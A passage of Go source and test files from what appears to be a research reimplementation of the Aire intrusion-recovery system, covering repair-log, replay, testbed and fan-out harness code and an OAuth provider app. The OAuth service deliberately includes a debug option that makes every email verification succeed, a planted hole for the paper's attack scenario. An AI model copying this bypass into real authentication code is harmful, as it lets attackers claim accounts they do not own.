	list := x.call(t, "dpaste", wire.NewRequest("GET", "/list"))
	if !strings.Contains(string(list.Body), "paste-") {
		t.Fatalf("dpaste list = %q", list.Body)
	}
	// Profile counters moved; questions page shows the author with rep.
	page := x.call(t, "askbot", wire.NewRequest("GET", "/questions"))
	if !strings.Contains(string(page.Body), "user1 (rep 3)") {
		t.Fatalf("questions page = %q", page.Body)
	}
	// Invalid session rejected.
	if resp := x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", "bogus", "title", "t")); resp.Status != 403 {
		t.Fatalf("bogus session: %d", resp.Status)
	}
}

func TestAnswers(t *testing.T) {
	x := newTB(t)
	s1 := x.register(t, "user1")
	s2 := x.register(t, "user2")
	qid := string(x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", s1, "title", "Q")).Body)
	if resp := x.call(t, "askbot", wire.NewRequest("POST", "/answer").WithForm(
		"session", s2, "question", qid, "body", "A!")); !resp.OK() {
		t.Fatalf("answer: %s", resp.Body)
	}
	if resp := x.call(t, "askbot", wire.NewRequest("POST", "/answer").WithForm(
		"session", s2, "question", "nope", "body", "A!")); resp.Status != 404 {
		t.Fatalf("answer to missing question: %d", resp.Status)
	}
	view := x.call(t, "askbot", wire.NewRequest("GET", "/question").WithForm("id", qid))
	if !strings.Contains(string(view.Body), "answer by user2: A!") {
		t.Fatalf("question view = %q", view.Body)
	}
}

func TestDailyEmailEffect(t *testing.T) {
	x := newTB(t)
	sess := x.register(t, "user1")
	x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm("session", sess, "title", "T1"))

	if resp := x.call(t, "askbot", wire.NewRequest("POST", "/admin/daily_email")); resp.Status != 403 {
		t.Fatalf("email without admin token: %d", resp.Status)
	}
	resp := x.call(t, "askbot", wire.NewRequest("POST", "/admin/daily_email").
		WithHeader("X-Admin-Token", askbotAdmin))
	if !resp.OK() {
		t.Fatalf("email: %s", resp.Body)
	}
	out := x.bot.Svc.Outbox()
	if len(out) != 1 || !strings.Contains(out[0].Payload, "T1") {
		t.Fatalf("outbox = %+v", out)
	}
}

func TestAuthorizeSessionPolicy(t *testing.T) {
	x := newTB(t)
	s1 := x.register(t, "user1")
	s2 := x.register(t, "user2")
	ask := x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm("session", s1, "title", "mine"))

	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete", wire.HdrRequestID, ask.Header[wire.HdrRequestID])
	// Another user's session cannot repair user1's post.
	if resp := x.call(t, "askbot", del.WithHeader("X-Repair-Session", s2)); resp.Status != 403 {
		t.Fatalf("foreign session repair accepted: %d", resp.Status)
	}
	// The same user's session can.
	if resp := x.call(t, "askbot", del.WithHeader("X-Repair-Session", s1)); !resp.OK() {
		t.Fatalf("own repair rejected: %d %s", resp.Status, resp.Body)
	}
	page := x.call(t, "askbot", wire.NewRequest("GET", "/questions"))
	if strings.Contains(string(page.Body), "mine") {
		t.Fatalf("post not cancelled: %q", page.Body)
	}
}

func TestEscape(t *testing.T) {
	if got := escape(`<b>&"x"`); got != "&lt;b&gt;&amp;&quot;x&quot;" {
		t.Fatalf("escape = %q", got)
	}
	if atoi("123") != 123 || atoi("") != 0 || atoi("12x3") != 12 {
		t.Fatal("atoi helper wrong")
	}
}
