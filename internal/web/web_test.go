package web

import (
	"fmt"
	"strings"
	"testing"

	"aire/internal/repairlog"
	"aire/internal/wire"
)

func newExec(svc *Service, req wire.Request, mode Mode, rec *repairlog.Record) *Exec {
	if rec == nil {
		rec = &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next(), Req: req}
	} else {
		rec.Req = req
	}
	return &Exec{Svc: svc, Rec: rec, Mode: mode}
}

func TestRouterDispatchAnd404(t *testing.T) {
	svc := NewService("t")
	svc.Schema.Register("kv")
	svc.Router.Handle("GET", "/hello", func(c *Ctx) wire.Response { return c.OK("hi " + c.Form("name")) })

	e := newExec(svc, wire.NewRequest("GET", "/hello").WithForm("name", "bob"), Normal, nil)
	resp := e.Run()
	if string(resp.Body) != "hi bob" {
		t.Fatalf("resp = %+v", resp)
	}

	e2 := newExec(svc, wire.NewRequest("POST", "/hello"), Normal, nil) // wrong method
	if resp := e2.Run(); resp.Status != 404 {
		t.Fatalf("method mismatch should 404, got %d", resp.Status)
	}
	e3 := newExec(svc, wire.NewRequest("GET", "/nope"), Normal, nil)
	if resp := e3.Run(); resp.Status != 404 {
		t.Fatalf("unknown path should 404, got %d", resp.Status)
	}
}

func TestHandlerPanicBecomes500(t *testing.T) {
	svc := NewService("t")
	svc.Router.Handle("GET", "/boom", func(c *Ctx) wire.Response { panic("kaboom") })
	resp := newExec(svc, wire.NewRequest("GET", "/boom"), Normal, nil).Run()
	if resp.Status != 500 || !strings.Contains(string(resp.Body), "kaboom") {
		t.Fatalf("panic response = %+v", resp)
	}
}

func TestNondetRecordReplay(t *testing.T) {
	svc := NewService("t")
	tick := int64(100)
	svc.TimeSource = func() int64 { tick++; return tick }
	svc.Router.Handle("GET", "/t", func(c *Ctx) wire.Response {
		return c.OK(fmt.Sprintf("%d %d %d", c.Now(), c.Rand(), c.Now()))
	})

	rec := &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next()}
	e := newExec(svc, wire.NewRequest("GET", "/t"), Normal, rec)
	first := string(e.Run().Body)
	if len(rec.Nondet) != 3 {
		t.Fatalf("nondet entries = %d, want 3", len(rec.Nondet))
	}

	// Replay must reproduce identical values even though the sources moved.
	replay := &Exec{Svc: svc, Rec: rec, Mode: Replay}
	second := string(replay.Run().Body)
	if first != second {
		t.Fatalf("replay diverged: %q vs %q", first, second)
	}

	// Replay of an execution that consumes MORE nondeterminism than was
	// recorded falls back to fresh values (and re-records).
	rec.Nondet = rec.Nondet[:1]
	replay2 := &Exec{Svc: svc, Rec: rec, Mode: Replay}
	third := string(replay2.Run().Body)
	if third == first {
		t.Fatal("extra nondet should have drawn fresh values")
	}
	if len(rec.Nondet) != 3 {
		t.Fatalf("re-recorded nondet = %d", len(rec.Nondet))
	}
}

func TestNewIDStableAcrossReplay(t *testing.T) {
	svc := NewService("t")
	svc.Schema.Register("kv")
	svc.Router.Handle("POST", "/mk", func(c *Ctx) wire.Response {
		return c.OK(c.NewID() + " " + c.NewID())
	})
	rec := &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next()}
	first := string(newExec(svc, wire.NewRequest("POST", "/mk"), Normal, rec).Run().Body)
	second := string((&Exec{Svc: svc, Rec: rec, Mode: Replay, Gen: 1}).Run().Body)
	if first != second {
		t.Fatalf("stable IDs must not change across replay: %q vs %q", first, second)
	}
}

func TestNewVersionIDVariesByGeneration(t *testing.T) {
	svc := NewService("t")
	svc.Router.Handle("POST", "/mk", func(c *Ctx) wire.Response { return c.OK(c.NewVersionID()) })
	rec := &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next()}
	gen0 := string(newExec(svc, wire.NewRequest("POST", "/mk"), Normal, rec).Run().Body)
	gen1 := string((&Exec{Svc: svc, Rec: rec, Mode: Replay, Gen: 1}).Run().Body)
	gen1again := string((&Exec{Svc: svc, Rec: rec, Mode: Replay, Gen: 1}).Run().Body)
	if gen0 == gen1 {
		t.Fatal("version IDs must differ across repair generations (Figure 3)")
	}
	if gen1 != gen1again {
		t.Fatal("version IDs must be deterministic within a generation")
	}
}

func TestOutboundInterception(t *testing.T) {
	svc := NewService("t")
	svc.Router.Handle("POST", "/go", func(c *Ctx) wire.Response {
		r1 := c.Call("peer", wire.NewRequest("POST", "/a"))
		r2 := c.Call("other", wire.NewRequest("POST", "/b"))
		return c.OK(string(r1.Body) + "+" + string(r2.Body))
	})
	rec := &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next()}
	e := newExec(svc, wire.NewRequest("POST", "/go"), Normal, rec)
	e.Outbound = func(seq int, target string, req wire.Request) (wire.Response, repairlog.Call) {
		return wire.NewResponse(200, fmt.Sprintf("%s#%d", target, seq)),
			repairlog.Call{Target: target, Req: req}
	}
	resp := e.Run()
	if string(resp.Body) != "peer#0+other#1" {
		t.Fatalf("resp = %q", resp.Body)
	}
	if len(rec.Calls) != 2 || rec.Calls[0].Seq != 0 || rec.Calls[1].Seq != 1 || rec.Calls[1].Target != "other" {
		t.Fatalf("calls = %+v", rec.Calls)
	}
}

func TestCallWithoutOutboundPanicsTo500(t *testing.T) {
	svc := NewService("t")
	svc.Router.Handle("POST", "/go", func(c *Ctx) wire.Response {
		c.Call("peer", wire.NewRequest("POST", "/a"))
		return c.OK("unreachable")
	})
	resp := newExec(svc, wire.NewRequest("POST", "/go"), Normal, nil).Run()
	if resp.Status != 500 {
		t.Fatalf("expected 500, got %d", resp.Status)
	}
}

func TestEffectsRecordedNotPerformed(t *testing.T) {
	svc := NewService("t")
	svc.Router.Handle("POST", "/fx", func(c *Ctx) wire.Response {
		c.Effect("email", "hello")
		c.Effect("sms", "world")
		return c.OK("ok")
	})
	rec := &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next()}
	newExec(svc, wire.NewRequest("POST", "/fx"), Normal, rec).Run()
	if len(rec.Effects) != 2 || rec.Effects[1].Kind != "sms" {
		t.Fatalf("effects = %+v", rec.Effects)
	}
	if len(svc.Outbox()) != 0 {
		t.Fatal("Exec must not perform effects itself (the controller commits them)")
	}
	svc.PerformEffect(rec.Effects[0])
	if got := svc.Outbox(); len(got) != 1 || got[0].Payload != "hello" {
		t.Fatalf("outbox = %+v", got)
	}
}

func TestDepTrackingThroughCtxDB(t *testing.T) {
	svc := NewService("t")
	svc.Schema.Register("kv")
	svc.Router.Handle("POST", "/w", func(c *Ctx) wire.Response {
		c.DB.Put("kv", "a", map[string]string{"v": "1"})
		return c.OK("ok")
	})
	svc.Router.Handle("GET", "/r", func(c *Ctx) wire.Response {
		c.DB.Get("kv", "a")
		c.DB.List("kv")
		return c.OK("ok")
	})
	w := &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next()}
	newExec(svc, wire.NewRequest("POST", "/w"), Normal, w).Run()
	r := &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next()}
	newExec(svc, wire.NewRequest("GET", "/r"), Normal, r).Run()
	if len(w.Writes) != 1 || len(r.Reads) != 1 || len(r.Scans) != 1 {
		t.Fatalf("deps: writes=%d reads=%d scans=%d", len(w.Writes), len(r.Reads), len(r.Scans))
	}
}

func TestBareModeSkipsInterposition(t *testing.T) {
	svc := NewService("t")
	svc.Schema.Register("kv")
	svc.Router.Handle("POST", "/w", func(c *Ctx) wire.Response {
		c.DB.Put("kv", "a", map[string]string{"v": "1"})
		c.Now()
		return c.OK("ok")
	})
	rec := &repairlog.Record{ID: svc.IDs.Request(), TS: svc.Clock.Next()}
	e := newExec(svc, wire.NewRequest("POST", "/w"), Normal, rec)
	e.Bare = true
	if resp := e.Run(); !resp.OK() {
		t.Fatalf("bare run failed: %+v", resp)
	}
	if len(rec.Writes) != 0 || len(rec.Nondet) != 0 {
		t.Fatalf("bare mode recorded deps: %+v %+v", rec.Writes, rec.Nondet)
	}
}

func TestCtxAccessors(t *testing.T) {
	svc := NewService("t")
	svc.Router.Handle("POST", "/c", func(c *Ctx) wire.Response {
		return c.OK(fmt.Sprintf("%s|%s|%d|%s|%s", c.ReqID(), c.From(), c.TS(), c.Header("H"), c.Form("f")))
	})
	rec := &repairlog.Record{ID: "t-req-77", TS: 12345, From: "peer"}
	resp := newExec(svc, wire.NewRequest("POST", "/c").WithForm("f", "fv").WithHeader("H", "hv"), Normal, rec).Run()
	if string(resp.Body) != "t-req-77|peer|12345|hv|fv" {
		t.Fatalf("ctx accessors = %q", resp.Body)
	}
}
