package repairlog

import (
	"strings"
	"testing"

	"aire/internal/wire"
)

// callRec builds a record with one outgoing call carrying the given RespID.
func callRec(id string, ts int64, respID, remoteID string) *Record {
	return &Record{
		ID: id, TS: ts,
		Req:  wire.NewRequest("GET", "/x"),
		Resp: wire.NewResponse(200, "ok"),
		Calls: []Call{{
			Seq: 0, Target: "peer", RespID: respID, RemoteReqID: remoteID,
			Req: wire.NewRequest("GET", "/y"), Resp: wire.NewResponse(200, "ok"),
		}},
	}
}

// Two services reusing an Aire-Response-Id must not silently corrupt the
// O(1) respIdx lookup: the colliding append fails loudly and the original
// mapping survives untouched.
func TestRespIDCollisionFailsLoudly(t *testing.T) {
	l := New(false)
	if err := l.Append(callRec("svcA-r1", 10, "resp-1", "rem-1")); err != nil {
		t.Fatal(err)
	}
	err := l.Append(callRec("svcB-r1", 20, "resp-1", "rem-2"))
	if err == nil {
		t.Fatal("appending a second record reusing resp-1 must fail")
	}
	if !strings.Contains(err.Error(), "resp-1") || !strings.Contains(err.Error(), "collision") {
		t.Fatalf("collision error should name the ID: %v", err)
	}
	// The original owner keeps the mapping.
	r, idx, ok := l.FindByCallRespID("resp-1")
	if !ok || r.ID != "svcA-r1" || idx != 0 {
		t.Fatalf("FindByCallRespID(resp-1) = %v, %d, %v; want svcA-r1 call 0", r, idx, ok)
	}
	// The refused record left no trace: not in the log, not in any index.
	if _, ok := l.Get("svcB-r1"); ok {
		t.Fatal("refused record must not be retained")
	}
	if l.Len() != 1 {
		t.Fatalf("Len() = %d after refused append, want 1", l.Len())
	}
	// The timeline index for the peer target was rolled back too: only the
	// surviving record's call remains.
	before, after := l.NeighborCalls("peer", 15)
	if before != "rem-1" || after != "" {
		t.Fatalf("NeighborCalls = %q, %q; refused record's call leaked into the timeline", before, after)
	}
}

// A collision introduced through Update is reported, and the pre-existing
// mapping still resolves to its original owner.
func TestRespIDCollisionViaUpdate(t *testing.T) {
	l := New(false)
	if err := l.Append(callRec("r1", 10, "resp-1", "rem-1")); err != nil {
		t.Fatal(err)
	}
	if err := l.Append(callRec("r2", 20, "resp-2", "rem-2")); err != nil {
		t.Fatal(err)
	}
	err := l.Update("r2", func(r *Record) { r.Calls[0].RespID = "resp-1" })
	if err == nil {
		t.Fatal("update that reuses resp-1 must fail")
	}
	r, _, ok := l.FindByCallRespID("resp-1")
	if !ok || r.ID != "r1" {
		t.Fatalf("resp-1 must still resolve to r1, got %v ok=%v", r, ok)
	}
}

// A record's own re-index after Update (same RespID, same call) is not a
// collision — the rewrite path must stay error-free.
func TestRespIDReindexSameRecordOK(t *testing.T) {
	l := New(false)
	if err := l.Append(callRec("r1", 10, "resp-1", "rem-1")); err != nil {
		t.Fatal(err)
	}
	if err := l.Resync("r1"); err != nil {
		t.Fatalf("Resync of unchanged record: %v", err)
	}
	if err := l.Update("r1", func(r *Record) { r.Skipped = true }); err != nil {
		t.Fatalf("Update keeping the same RespID: %v", err)
	}
	if r, _, ok := l.FindByCallRespID("resp-1"); !ok || r.ID != "r1" {
		t.Fatal("resp-1 lost after benign update")
	}
}
