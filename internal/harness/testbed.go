// Package harness builds multi-service Aire testbeds and drives the
// paper's experiments: the four intrusion scenarios of §7.1, the partial
// repair runs of §7.2, and the workloads behind Tables 4 and 5.
package harness

import (
	"fmt"

	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/web"
	"aire/internal/wire"
)

// Testbed is a set of Aire-enabled services on one in-memory bus.
type Testbed struct {
	Bus   *transport.Bus
	Ctrls map[string]*core.Controller
	order []string
}

// NewTestbed returns an empty testbed.
func NewTestbed() *Testbed {
	return &Testbed{Bus: transport.NewBus(), Ctrls: map[string]*core.Controller{}}
}

// Add stands up an Aire-enabled service for the application.
func (tb *Testbed) Add(app core.App, cfg core.Config) *core.Controller {
	c := core.NewController(app, tb.Bus, cfg)
	tb.Ctrls[app.Name()] = c
	tb.Bus.Register(app.Name(), c)
	tb.order = append(tb.order, app.Name())
	return c
}

// Call sends an external-client request (no Aire headers, unauthenticated
// — a browser). A transport failure surfaces as a timeout response.
func (tb *Testbed) Call(svc string, req wire.Request) wire.Response {
	resp, err := tb.Bus.Call("", svc, req)
	if err != nil {
		return wire.NewResponse(wire.StatusTimeout, err.Error())
	}
	return resp
}

// MustCall is Call but panics on a non-2xx response; used for scenario
// setup steps that must succeed.
func (tb *Testbed) MustCall(svc string, req wire.Request) wire.Response {
	resp := tb.Call(svc, req)
	if !resp.OK() {
		panic(fmt.Sprintf("harness: %s %s on %s failed: %d %s", req.Method, req.Path, svc, resp.Status, resp.Body))
	}
	return resp
}

// Settle pumps all outgoing repair queues (in deterministic service order)
// until the system is quiescent or maxRounds passes elapse; it returns the
// number of rounds that made progress.
func (tb *Testbed) Settle(maxRounds int) int {
	rounds := 0
	for i := 0; i < maxRounds; i++ {
		progressed := false
		for _, name := range tb.order {
			c := tb.Ctrls[name]
			if d, _ := c.Flush(); d > 0 {
				progressed = true
			}
			if r, _ := c.ProcessIncoming(); r != nil {
				progressed = true
			}
		}
		if !progressed {
			return rounds
		}
		rounds++
	}
	return rounds
}

// SetOffline toggles a service's availability (§7.2 experiments).
func (tb *Testbed) SetOffline(svc string, off bool) { tb.Bus.SetOffline(svc, off) }

// QueuedMessages sums pending repair messages across all services.
func (tb *Testbed) QueuedMessages() int {
	n := 0
	for _, c := range tb.Ctrls {
		n += c.QueueLen()
	}
	return n
}

// Service returns the underlying web service runtime of a controller.
func (tb *Testbed) Service(name string) *web.Service { return tb.Ctrls[name].Svc }

// FreezeTime pins every service's application-visible clock to a constant,
// making scenario traces deterministic.
func (tb *Testbed) FreezeTime(unix int64) {
	for _, c := range tb.Ctrls {
		c.Svc.TimeSource = func() int64 { return unix }
	}
}
