package harness

import (
	"strings"
	"testing"

	"aire/internal/core"
	"aire/internal/simnet"
)

// stormFaults is the fault plan the starvation regression runs under:
// enough loss and duplication that backoff and redelivery paths are
// exercised, not so much that runs stall.
var stormFaults = simnet.FaultPlan{Drop: 0.05, Duplicate: 0.03}

func stormSchedConfig(seed int64, admission bool) StormConfig {
	cfg := StormConfig{
		Seed:        seed,
		Peers:       4,
		Backlog:     30,
		Responses:   12,
		PeerCost:    6,
		Sched:       true,
		Faults:      stormFaults,
		BatchPolicy: core.DefaultAdaptiveBatch(),
	}
	if admission {
		cfg.Admission = core.DefaultAdmission()
	}
	return cfg
}

// TestStormAdmissionBoundsMirrorLatency is the starvation regression: with
// sender-side admission control on, a 120-message repair storm over slow
// peers must not starve the mirror plane — every response-class message
// delivers, and its p99 sojourn stays bounded, for all 20 seeds under
// seeded drop/duplicate faults.
func TestStormAdmissionBoundsMirrorLatency(t *testing.T) {
	const mirrorP99Bound = 2500 // scheduler steps
	for seed := int64(1); seed <= 20; seed++ {
		res, err := RunStorm(stormSchedConfig(seed, true))
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if res.MirrorDelivered != 12 || res.CascadeDelivered != 120 {
			t.Fatalf("seed %d: delivered mirror=%d cascade=%d, want 12/120",
				seed, res.MirrorDelivered, res.CascadeDelivered)
		}
		t.Logf("seed %2d: mirror p50=%d p99=%d max=%d cascade p50=%d backlogAtDrain=%d rounds=%d steps=%d",
			seed, res.MirrorP50, res.MirrorP99, res.MirrorMax, res.CascadeP50,
			res.BacklogAtMirrorDrain, res.Rounds, res.SchedSteps)
		if res.MirrorP99 > mirrorP99Bound {
			t.Errorf("seed %d: mirror p99 = %d steps, bound %d — admission failed to protect the mirror plane",
				seed, res.MirrorP99, mirrorP99Bound)
		}
	}
}

// TestStormNoAdmissionDegradesMirror is the teeth check: the same storm
// with admission off must visibly degrade mirror latency relative to the
// admission-on run — otherwise the bound above tests nothing.
func TestStormNoAdmissionDegradesMirror(t *testing.T) {
	var worse int
	for seed := int64(1); seed <= 5; seed++ {
		on, err := RunStorm(stormSchedConfig(seed, true))
		if err != nil {
			t.Fatalf("seed %d (admission on): %v", seed, err)
		}
		off, err := RunStorm(stormSchedConfig(seed, false))
		if err != nil {
			t.Fatalf("seed %d (admission off): %v", seed, err)
		}
		t.Logf("seed %d: mirror p99 on=%d off=%d", seed, on.MirrorP99, off.MirrorP99)
		if off.MirrorP99 > on.MirrorP99 {
			worse++
		}
	}
	if worse < 4 {
		t.Fatalf("admission off degraded mirror p99 in only %d/5 seeds — the starvation scenario has no teeth", worse)
	}
}

// TestStormSchedTraceYieldLabels checks the dsched yield-point discipline:
// the pump's new decision points surface as named entries in the schedule
// trace when the policies are configured, and stay absent (so existing
// seed digests are untouched) when they are not.
func TestStormSchedTraceYieldLabels(t *testing.T) {
	res, err := RunStorm(stormSchedConfig(7, true))
	if err != nil {
		t.Fatal(err)
	}
	trace := strings.Join(res.SchedTrace, "\n")
	for _, label := range []string{"@batch-policy", "@admission"} {
		if !strings.Contains(trace, label) {
			t.Errorf("schedule trace has no %q yield point (policies configured)", label)
		}
	}

	plain := stormSchedConfig(7, false)
	plain.BatchPolicy = nil
	res, err = RunStorm(plain)
	if err != nil {
		t.Fatal(err)
	}
	trace = strings.Join(res.SchedTrace, "\n")
	for _, label := range []string{"@batch-policy", "@admission"} {
		if strings.Contains(trace, label) {
			t.Errorf("schedule trace contains %q although the policy is off", label)
		}
	}
}

// TestStormSerialDelivers runs the storm on the production scheduler
// (real goroutines, wall clock) so the scenario is exercised under -race.
func TestStormSerialDelivers(t *testing.T) {
	res, err := RunStorm(StormConfig{
		Seed: 1, Peers: 3, Backlog: 15, Responses: 8,
		BatchPolicy: core.DefaultAdaptiveBatch(),
		Admission:   core.DefaultAdmission(),
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.MirrorDelivered != 8 || res.CascadeDelivered != 45 {
		t.Fatalf("delivered mirror=%d cascade=%d, want 8/45", res.MirrorDelivered, res.CascadeDelivered)
	}
	t.Logf("serial: mirror p50=%dµs p99=%dµs cascade p50=%dµs", res.MirrorP50, res.MirrorP99, res.CascadeP50)
}
