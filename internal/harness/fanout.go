package harness

import (
	"context"
	"fmt"
	"sync/atomic"
	"time"

	"aire/internal/core"
	"aire/internal/warp"
	"aire/internal/wire"
)

// FanoutScenario is a repair fan-out testbed: one hub service mirroring to
// n peers, with one peer optionally stalled (offline and slow to fail).
// Repairing the attack write at the hub queues one repair message per peer;
// the scenario measures whether delivery to the reachable peers is
// independent of the stalled one.
type FanoutScenario struct {
	TB        *Testbed
	Hub       *core.Controller
	PeerNames []string
	// Stalled is the peer made slow+offline by StallPeer ("" when none).
	Stalled string

	attackID string
}

// NewFanoutScenario builds the hub and n peer services on one bus. The hub
// uses cfg; peers run the default configuration.
func NewFanoutScenario(n int, cfg core.Config) *FanoutScenario {
	tb := NewTestbed()
	s := &FanoutScenario{TB: tb}
	for i := 1; i <= n; i++ {
		s.PeerNames = append(s.PeerNames, fmt.Sprintf("peer%d", i))
	}
	s.Hub = tb.Add(&KVApp{ServiceName: "hub", Mirrors: s.PeerNames}, cfg)
	for _, name := range s.PeerNames {
		tb.Add(&KVApp{ServiceName: name}, core.DefaultConfig())
	}
	return s
}

// RunAttack performs the corrupting write through the hub; normal-operation
// mirroring propagates it to every peer synchronously.
func (s *FanoutScenario) RunAttack() error {
	resp := s.TB.Call("hub", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
	if !resp.OK() {
		return fmt.Errorf("fanout: attack write failed: %d %s", resp.Status, resp.Body)
	}
	s.attackID = resp.Header[wire.HdrRequestID]
	return nil
}

// StallPeer makes the named peer stalled: offline, and every delivery
// attempt to it blocks the caller for latency before failing — a hung
// service rather than a refused connection.
func (s *FanoutScenario) StallPeer(name string, latency time.Duration) {
	s.Stalled = name
	s.TB.SetLatency(name, latency)
	s.TB.SetOffline(name, true)
}

// ReviveStalledPeer brings the stalled peer back online and instant.
func (s *FanoutScenario) ReviveStalledPeer() {
	if s.Stalled == "" {
		return
	}
	s.TB.SetLatency(s.Stalled, 0)
	s.TB.SetOffline(s.Stalled, false)
	s.Stalled = ""
}

// Repair cancels the attack request at the hub, queueing one delete repair
// message per peer.
func (s *FanoutScenario) Repair() error {
	if s.attackID == "" {
		return fmt.Errorf("fanout: RunAttack first")
	}
	_, err := s.Hub.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: s.attackID})
	return err
}

// peerRepaired reports whether the named peer no longer serves the attack
// value.
func (s *FanoutScenario) peerRepaired(name string) bool {
	resp, err := s.TB.Bus.Call("", name, wire.NewRequest("GET", "/get").WithForm("key", "x"))
	return err == nil && resp.Status == 404
}

// ReachableRepaired reports whether every peer except the stalled one has
// been repaired.
func (s *FanoutScenario) ReachableRepaired() bool {
	for _, name := range s.PeerNames {
		if name == s.Stalled {
			continue
		}
		if !s.peerRepaired(name) {
			return false
		}
	}
	return true
}

// AllRepaired reports whether every peer has been repaired.
func (s *FanoutScenario) AllRepaired() bool {
	for _, name := range s.PeerNames {
		if !s.peerRepaired(name) {
			return false
		}
	}
	return true
}

// WaitReachableRepaired waits until every reachable peer is repaired or the
// timeout elapses, returning how long it took and whether it succeeded.
// The wait is event-driven — each pump delivery wakes a re-check — so there
// is no sleep-polling interval to tune (or to flake on slow CI).
func (s *FanoutScenario) WaitReachableRepaired(timeout time.Duration) (time.Duration, bool) {
	start := time.Now()
	wake := make(chan struct{}, 1)
	// Subscribe has no unsubscribe, so the sink outlives this call; the
	// done flag makes it inert once the wait returns.
	var done atomic.Bool
	defer done.Store(true)
	s.Hub.Subscribe(func(e core.Event) {
		if e.Kind == core.EvMsgDelivered && !done.Load() {
			select {
			case wake <- struct{}{}:
			default:
			}
		}
	})
	deadline := time.NewTimer(timeout)
	defer deadline.Stop()
	for {
		// Check after subscribing: deliveries that completed before the
		// subscription are visible to the check, deliveries after it send a
		// wake — no lost wakeups either way.
		if s.ReachableRepaired() {
			return time.Since(start), true
		}
		select {
		case <-wake:
		case <-deadline.C:
			return time.Since(start), false
		}
	}
}

// SettleUntilReachableRepaired drives synchronous pump rounds (the serial
// baseline) until the reachable peers are repaired or maxRounds elapse,
// returning the wall time spent settling and whether it succeeded. Unlike
// the background pump, each round's wall time includes every stalled
// delivery attempt.
func (s *FanoutScenario) SettleUntilReachableRepaired(maxRounds int) (time.Duration, bool) {
	start := time.Now()
	for i := 0; i < maxRounds; i++ {
		if s.ReachableRepaired() {
			return time.Since(start), true
		}
		s.TB.Settle(1)
	}
	return time.Since(start), s.ReachableRepaired()
}

// StartPumps starts the background pump on every controller in the testbed,
// returning a stop function.
func (tb *Testbed) StartPumps(ctx context.Context) (stop func(), err error) {
	ctrls := make([]*core.Controller, 0, len(tb.order))
	for _, name := range tb.order {
		ctrls = append(ctrls, tb.Ctrls[name])
	}
	return core.StartPumps(ctx, ctrls...)
}

// SetLatency injects per-call delivery latency for the named service.
func (tb *Testbed) SetLatency(svc string, d time.Duration) { tb.Bus.SetLatency(svc, d) }
