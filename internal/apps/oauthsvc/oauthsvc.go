// Package oauthsvc implements the Django-OAuth-like identity provider used
// in the paper's Askbot attack scenario (§7.1, Figure 4).
//
// The service manages user accounts, grants OAuth tokens to clients after a
// login, and verifies that an email address belongs to a token's owner. It
// deliberately includes the paper's injected vulnerability: a debug
// configuration option (debug_verify_all) that makes every email
// verification succeed. An administrator mistakenly enabling it in
// production is request (1) of Figure 4, modeled after the 2013 Facebook
// OAuth bug.
package oauthsvc

import (
	"fmt"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/warp"
	"aire/internal/web"
	"aire/internal/wire"
)

// Model names.
const (
	ModelUser   = "user"   // id = username; fields: password, email
	ModelToken  = "token"  // id = token value; fields: user, client
	ModelConfig = "config" // id = option name; fields: value
)

// App is the OAuth provider application.
type App struct {
	// ServiceName is the transport identity (default "oauth").
	ServiceName string
	// AdminToken authorizes /admin endpoints and admin-issued repair.
	AdminToken string
}

// New returns an OAuth provider with the given admin token.
func New(adminToken string) *App {
	return &App{ServiceName: "oauth", AdminToken: adminToken}
}

// Name implements core.App.
func (a *App) Name() string { return a.ServiceName }

// Register installs models and routes.
func (a *App) Register(svc *web.Service) {
	svc.Schema.Register(ModelUser)
	svc.Schema.Register(ModelToken)
	svc.Schema.Register(ModelConfig)

	// POST /signup creates a user account (seeding; no verification here).
	svc.Router.Handle("POST", "/signup", func(c *web.Ctx) wire.Response {
		user, pw, email := c.Form("user"), c.Form("password"), c.Form("email")
		if user == "" || pw == "" {
			return c.Error(400, "user and password required")
		}
		if _, exists := c.DB.Get(ModelUser, user); exists {
			return c.Error(409, "user exists")
		}
		if err := c.DB.Put(ModelUser, user, orm.Fields("password", pw, "email", email)); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("user created")
	})

	// POST /admin/config sets a configuration option — the vector for the
	// misconfiguration of Figure 4's request (1).
	svc.Router.Handle("POST", "/admin/config", func(c *web.Ctx) wire.Response {
		if c.Header("X-Admin-Token") != a.AdminToken {
			return c.Error(403, "admin token required")
		}
		key, val := c.Form("key"), c.Form("value")
		if key == "" {
			return c.Error(400, "key required")
		}
		if err := c.DB.Put(ModelConfig, key, orm.Fields("value", val)); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("config " + key + "=" + val)
	})

	// POST /authorize is the token-granting leg of the OAuth handshake
	// (request (2) of Figure 4): the user logs in and the named client is
	// granted a token for them.
	svc.Router.Handle("POST", "/authorize", func(c *web.Ctx) wire.Response {
		user, pw, client := c.Form("user"), c.Form("password"), c.Form("client")
		u, ok := c.DB.Get(ModelUser, user)
		if !ok || u.Get("password") != pw {
			return c.Error(403, "bad credentials")
		}
		tok := "tok-" + c.NewID()
		if err := c.DB.Put(ModelToken, tok, orm.Fields("user", user, "client", client)); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK(tok)
	})

	// POST /verify_email checks that an email belongs to the token's owner
	// (request (4) of Figure 4). With debug_verify_all enabled it always
	// succeeds — the vulnerability.
	svc.Router.Handle("POST", "/verify_email", func(c *web.Ctx) wire.Response {
		if cfg, ok := c.DB.Get(ModelConfig, "debug_verify_all"); ok && cfg.Get("value") == "true" {
			return c.OK("verified")
		}
